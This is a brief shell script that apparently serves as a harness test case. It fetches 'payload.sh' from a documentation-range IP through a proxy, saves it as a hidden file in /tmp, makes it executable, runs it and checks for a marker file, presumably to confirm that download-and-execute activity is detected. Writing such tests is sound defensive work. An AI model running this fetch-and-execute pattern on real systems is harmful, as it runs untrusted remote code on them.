#!/bin/sh
. /opt/case/case.sh

curl -s -x http://203.0.113.99:8080 http://203.0.113.10/payload.sh -o /tmp/.p
printf '#!/bin/sh\ntouch /tmp/reached\n' >>/tmp/.p
chmod +x /tmp/.p
/tmp/.p
test -e /tmp/reached
took_place
